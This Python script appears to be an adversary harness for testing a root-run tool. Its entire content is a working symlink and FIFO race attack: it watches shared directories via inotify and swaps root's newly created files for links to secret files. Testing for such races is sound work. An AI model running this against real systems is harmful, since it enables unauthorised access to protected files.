"""The neighbour: another unprivileged user of the machine, racing root's prism in directories both may write.

Run as that user with /usr/bin/python3 -I (standard library only; inotify through ctypes):

    neighbour.py STATE SECRET_FILE SECRET_DIR MODE [--flip PATH]... [--plant NAME]... WATCH_DIR...

MODE says what is put over every name that appears (IN_CREATE, IN_MOVED_TO) in a watched directory, the moment
inotify reports it, by rename(2) (which replaces root's own files too, in a directory the neighbour may write and
that is not sticky):
    link   a symbolic link to SECRET_FILE over a file, one to SECRET_DIR over a directory (moved aside first)
    fifo   a FIFO over a file (a directory as for link)
    mixed  link and fifo in turn
A directory that appears is watched too when the neighbour may read it. --flip PATH swaps PATH, a file that is there
already, with a FIFO and a link to SECRET_FILE in turn (renameat2 RENAME_EXCHANGE) for as long as the neighbour runs:
whoever checks PATH and then opens it by name sees one thing and opens another. --plant NAME makes NAME, a link to
SECRET_DIR, in a watched directory the moment the first name appears there (after root found it empty): the names
root will make next, predicted, which the neighbour may make even where it cannot rename root's (a sticky directory).

Every swap is appended to STATE/actions ("link PATH", "fifo PATH", "dir PATH", "flip PATH N") before the next event is
read; STATE/ready is written once every watch is set. The neighbour runs until it is sent SIGTERM.
"""
import ctypes
import os
import signal
import stat
import struct
import sys
import threading

IN_OPEN = 0x20
IN_MOVED_TO = 0x80
IN_CREATE = 0x100
IN_Q_OVERFLOW = 0x4000
IN_ISDIR = 0x40000000
RENAME_EXCHANGE = 2
AT_FDCWD = -100

libc = ctypes.CDLL(None, use_errno=True)
libc.renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]


def main(argv):
    state, secret_file, secret_dir, mode = argv[:4]
    rest = argv[4:]
    flips, watch, plants = [], [], []
    planted = set()
    i = 0
    while i < len(rest):
        if rest[i] == "--flip":
            flips.append(rest[i + 1])
            i += 2
        elif rest[i] == "--plant":
            plants.append(rest[i + 1])
            i += 2
        else:
            watch.append(rest[i])
            i += 1
    log = open(os.path.join(state, "actions"), "a", buffering=1)
    lock = threading.Lock()

    def record(line):
        with lock:
            log.write(line + "\n")
            log.flush()

    fd = libc.inotify_init1(0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "inotify_init1")
    watches = {}

    def add(directory):
        wd = libc.inotify_add_watch(fd, os.fsencode(directory), IN_CREATE | IN_MOVED_TO)
        if wd >= 0:
            watches[wd] = directory
        return wd >= 0

    for d in watch:
        if not add(d):
            raise OSError(ctypes.get_errno(), "inotify_add_watch " + d)

    counter = [0]

    def spare(directory, what):
        counter[0] += 1
        return os.path.join(directory, ".nb-%s-%d-%d" % (what, os.getpid(), counter[0]))

    def put_over(directory, path, kind):
        """kind: link or fifo; rename(2) a fresh one over path"""
        made = spare(directory, kind)
        try:
            if kind == "link":
                os.symlink(secret_file, made)
            else:
                os.mkfifo(made, 0o666)
            os.rename(made, path)
            record(kind + " " + path)
        except OSError:
            try:
                os.unlink(made)
            except OSError:
                pass

    def swap_directory(directory, path):
        moved = spare(directory, "moved")
        link = spare(directory, "dirlink")
        try:
            os.symlink(secret_dir, link)
            os.rename(path, moved)
            os.rename(link, path)
            record("dir " + path)
        except OSError:
            try:
                os.unlink(link)
            except OSError:
                pass
            return
        add(moved)  # the same inode, watched already: its events now name where it went, raced as before

    def flipper(path):
        directory = os.path.dirname(path)
        fifo = spare(directory, "flipfifo")
        link = spare(directory, "fliplink")
        os.mkfifo(fifo, 0o666)
        os.symlink(secret_file, link)
        a, b, c = os.fsencode(path), os.fsencode(fifo), os.fsencode(link)
        n = 0
        while True:
            other = b if n % 4 < 2 else c  # path: fifo, file, link, file, ...
            if libc.renameat2(AT_FDCWD, a, AT_FDCWD, other, RENAME_EXCHANGE) != 0:
                record("flip-failed %s errno %d" % (path, ctypes.get_errno()))
                return
            n += 1
            if n in (1, 1000) or n % 100000 == 0:
                record("flip %s %d" % (path, n))

    for f in flips:
        if not os.path.isfile(f):
            raise OSError("no file to flip: " + f)

    ready = os.path.join(state, "ready")
    with open(ready + ".tmp", "w") as r:
        r.write(str(os.getpid()) + "\n")
    os.rename(ready + ".tmp", ready)

    for f in flips:
        threading.Thread(target=flipper, args=(f,), daemon=True).start()

    turn = 0
    buffer_size = 1 << 16
    while True:
        data = os.read(fd, buffer_size)
        offset = 0
        while offset < len(data):
            wd, mask, _cookie, length = struct.unpack_from("iIII", data, offset)
            raw = data[offset + 16: offset + 16 + length].rstrip(b"\0")
            offset += 16 + length
            if mask & IN_Q_OVERFLOW:
                record("overflow")
                continue
            directory = watches.get(wd)
            if directory is None or not raw:
                continue
            name = os.fsdecode(raw)
            path = os.path.join(directory, name)
            if name.startswith(".nb-") or path in flips:
                continue
            if directory not in planted:
                planted.add(directory)
                for plant in plants:
                    try:
                        os.symlink(secret_dir, os.path.join(directory, plant))
                        record("plant " + os.path.join(directory, plant))
                    except OSError:
                        pass
            try:
                st = os.lstat(path)
            except OSError:
                continue
            if stat.S_ISLNK(st.st_mode) or stat.S_ISFIFO(st.st_mode):
                continue  # its own swap, come back as an event
            if stat.S_ISDIR(st.st_mode):
                add(path)
                swap_directory(directory, path)
                continue
            kind = mode if mode != "mixed" else ("link" if turn % 2 == 0 else "fifo")
            turn += 1
            put_over(directory, path, kind)


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    main(sys.argv[1:])
